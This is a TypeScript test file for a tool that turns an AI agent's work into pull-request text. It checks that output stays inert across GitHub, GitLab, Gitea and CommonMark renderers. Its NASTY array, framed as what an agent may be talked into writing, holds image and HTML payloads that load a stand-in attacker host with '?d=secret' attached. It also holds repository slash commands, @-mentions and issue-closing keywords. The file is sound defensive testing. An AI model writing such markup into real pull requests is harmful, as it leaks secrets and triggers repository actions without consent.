import fc from 'fast-check'
import MarkdownIt from 'markdown-it'
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../src/api/pages/markdown/markdown.ts'
import { toBody, toCommitText, toTitle, unfold } from '../../src/codehosts/pull-request-text.ts'
import type { ChangedFile } from '../../src/git/diff.ts'
import { toPullRequestBody } from '../../src/jobs/pull-request-body.ts'

const EVIL = 'https://evil.example/x'

/** What an agent may be talked into writing. */
const NASTY = [
  `![a](${EVIL}.png?d=secret)`,
  `![a](${EVIL})`,
  `![a](<${EVIL} y>)`,
  `![a]( ${EVIL} "title" )`,
  `![a\nb](${EVIL})`,
  `![a[b]c](${EVIL})`,
  `![](${EVIL}.mp4)`,
  `\\![a](${EVIL})`,
  `\\\\![a](${EVIL})`,
  `!\u200B[a](${EVIL})`,
  `[![a](${EVIL}.png)](${EVIL})`,
  `![a][ref]\n\n[ref]: ${EVIL}.png`,
  `![ref][]\n\n[ref]: ${EVIL}.png`,
  `![ref]\n\n[ref]:\n${EVIL}.png`,
  `![ref]\n\n> [ref]: ${EVIL}.png`,
  `![a] [ref]`,
  `[[${EVIL}.png]]`,
  `[[a|${EVIL}.png|alt=b]]`,
  `<img src=${EVIL}>`,
  `<IMG\nSRC="${EVIL}">`,
  `<picture><source srcset="${EVIL} 2x"></picture>`,
  `<video poster="${EVIL}" src="${EVIL}">`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<div style="background:url(${EVIL})">`,
  `<style>@import "${EVIL}"</style>`,
  `<link rel=stylesheet href=${EVIL}>`,
  `<iframe src=${EVIL}></iframe>`,
  `<details open>\n\n![a](${EVIL})`,
  `<!-- ![a](${EVIL}) -->`,
  `<a href="${EVIL}"><img src=${EVIL}></a>`,
  `\\<img src=${EVIL}>`,
  `\\\\<img src=${EVIL}>`,
  `<<${EVIL}>>`,
  `<${EVIL}.png>`,
  `<?x?><![CDATA[<img src=${EVIL}>]]>`,
  `${EVIL}.png`,
  `${EVIL}.svg?d=secret`,
  '```mermaid\ngraph TD; A[<img src=x>]\n```',
  '~~~plantuml\n!include https://evil.example/x\n~~~',
  '1. ```kroki\n   x\n   ```',
  '> ```math\n> x\n> ```',
  '``` {.geojson}\n{}\n```',
  '```suggestion\nx\n```',
  '`` ` ``',
  '`',
  '```',
  '~~~',
  '    ',
  '\t<img src=x>',
  '| a | b |\n|---|---|\n| ![a](https://evil.example/x) | <img src=x> |',
  '/merge',
  '  /approve',
  '> /assign me',
  'Done.\u2028/close',
  '@octocat',
  '(@acme/docs)',
  '@{557058:1f2e}',
  '@\u200Ball',
  'fixes #1',
  'Closes: acme/docs#1',
  'resolves https://git.example/acme/docs/issues/1',
  'fixes\n#1',
]

const HARMLESS_TAGS = new Set(
  'a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul div span details summary'.split(
    ' ',
  ),
)

/** As the hosts read it: CommonMark with raw HTML, and GitHub's additions to it. Sanitisers, which they have besides, are left out. */
const HOSTS: [string, (text: string) => string][] = [
  ['CommonMark', (text) => new MarkdownIt('commonmark').render(text)],
  ['GitHub', (text) => new MarkdownIt({ html: true, linkify: true }).render(text)],
  ['GitLab, with line ends', (text) => new MarkdownIt({ html: true, linkify: true, breaks: true }).render(text)],
  // Gitea looks for `[[address]]` in what Markdown has made of the text.
  ['Gitea', (text) => new MarkdownIt({ html: true, linkify: true }).render(text).replace(/\[\[(.*?)\]\]/g, '<img src="$1">')],
]

/** All that a browser would load or run, or that came from somewhere other than Markdown. */
function findLive(html: string): string[] {
  const found: string[] = []
  for (const [tag, name = '', attributes = ''] of html.matchAll(/<\/?([a-z][a-z0-9-]*)([^>]*)>|<[!?][^>]*>/gi)) {
    const isPlain = HARMLESS_TAGS.has(name) && !/\b(?:src|srcset|poster|on\w+|data)\s*=|url\(|@import/i.test(attributes)
    const language = /class="language-([^"]*)"/.exec(attributes)?.[1] ?? 'text'
    if (!isPlain || !['text', 'ts', 'html'].includes(language)) found.push(tag)
  }
  return found
}

/** What acts without being rendered. */
function findActions(text: string): string[] {
  return [
    ...(text.match(/^[\s>*+-]*\/[a-z].*$/gim) ?? []),
    ...(text.match(/(?<![A-Za-z0-9])@[\w{].*/g) ?? []),
    ...(text.match(/\b(?:fixes|closes|resolves):?\s+(?:\S*#\d|https?:)/gi) ?? []),
  ]
}

const file = (path: string): ChangedFile => ({
  path,
  previousPath: `old ${path}`,
  change: 'modified',
  modeBefore: '100644',
  modeAfter: '100644',
  additions: 1,
  deletions: 1,
})

/** The text in every place that somebody other than Docwright can write to. */
const toWork = (text: string) => ({
  jobId: 'job_1',
  turns: [text, text].map((prompt) => ({ prompt, askedBy: text, summary: text })),
  files: [file(text.slice(0, 150))],
  fileLink: (path: string) => `https://git.example/acme/docs/blob/1234/${encodeURIComponent(path)}`,
  checks: { before: {}, after: { 'broken-link': 1 }, added: [{ code: 'broken-link', path: text, line: 1, message: text }] },
})

describe.each(HOSTS)('the text of a pull request on a host that reads %s', (_name, render) => {
  it.each(NASTY)('loads nothing and does nothing: %j', (text) => {
    for (const around of [text, `- ${text}`, `\`${text}`, `**${text}**`, `# ${text}`, `\`\`\`ts\n${text}`, `a\n${text}\nb`]) {
      const body = toBody(toPullRequestBody(toWork(around)), 60_000)
      expect(findLive(render(body))).toEqual([])
      expect(findActions(body)).toEqual([])
    }
  })

  it('loads nothing and does nothing, however such text is put together', () => {
    const text = fc.array(
      fc.oneof(fc.constantFrom(...NASTY, '\n', '\n\n', ' ', '> ', '- ', '!', '[', ']', '(', ')', '<', '`', '\\')),
      {
        maxLength: 12,
      },
    )
    fc.assert(
      fc.property(text, (parts) => {
        const body = toBody(toPullRequestBody(toWork(parts.join(''))), 60_000)
        expect(findLive(render(body))).toEqual([])
        expect(findActions(body)).toEqual([])
      }),
      { numRuns: 300 },
    )
  })
})

describe('what is folded away', () => {
  const folded = (html: string) => [...html.matchAll(/<\/?(details|summary)>/g)].map(([tag]) => tag)
  const body = toPullRequestBody({
    ...toWork('x'),
    turns: [{ prompt: 'p', askedBy: null, summary: 'Done.\n\n<details>\n<summary>mine</summary>\n\nhidden\n\n```' }],
  })

  it('is what Docwright folds, and nothing that an agent wrote', () => {
    const once = ['<details>', '<summary>', '</summary>', '</details>']
    for (const [, render] of HOSTS) expect(folded(render(toBody(body, 60_000)))).toEqual(once)
    expect(folded(renderMarkdown(body).text)).toEqual(once)
    expect(folded(renderMarkdown('</details>\n\n<details>\n<summary>x</summary>\n\ntext').text)).toEqual(once)
    expect(folded(renderMarkdown('> <details>\n> <summary>x</summary>').text)).toEqual([])
  })

  it('stands under its title where a host shows no HTML', () => {
    expect(unfold('a\n\n<details>\n<summary>All files</summary>\n\n- b\n\n</details>\n\nc')).toBe(
      'a\n\n**All files**\n\n- b\n\n\nc',
    )
  })
})

describe('what such text becomes elsewhere', () => {
  it.each(NASTY)('nothing that acts in titles and commit messages: %j', (text) => {
    // A title has one line, and no host reads commands in it.
    expect(findActions(toTitle(text)).filter((found) => !/^\s*>?\s*\//.test(found))).toEqual([])
    expect(findActions(toCommitText(text))).toEqual([])
  })

  it.each(NASTY)('nothing that is loaded on the page of the built-in code host: %j', (text) => {
    for (const around of [text, `- ${text}`, `\`${text}`, `> ${text}`])
      expect(findLive(renderMarkdown(toPullRequestBody(toWork(around))).text)).toEqual([])
  })

  it('links to what was an image, with its address in sight', () => {
    const [, render] = HOSTS[1]!
    const html = render(toBody(`![A chart](${EVIL}.png?d=secret)`, 60_000))
    expect(html).toBe(`<p><a href="${EVIL}.png?d=secret">A chart (image: ${EVIL}.png?d=secret)</a></p>\n`)
  })
})
